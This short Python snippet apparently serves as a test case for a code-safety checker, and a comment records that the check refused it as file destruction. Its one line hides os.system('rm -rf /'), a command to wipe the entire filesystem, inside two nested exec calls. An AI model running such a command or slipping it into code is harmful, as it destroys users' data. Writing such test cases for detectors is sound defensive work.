# nacre: refused file.destroy
exec("exec(\"import os; os.system('rm -rf /')\")")
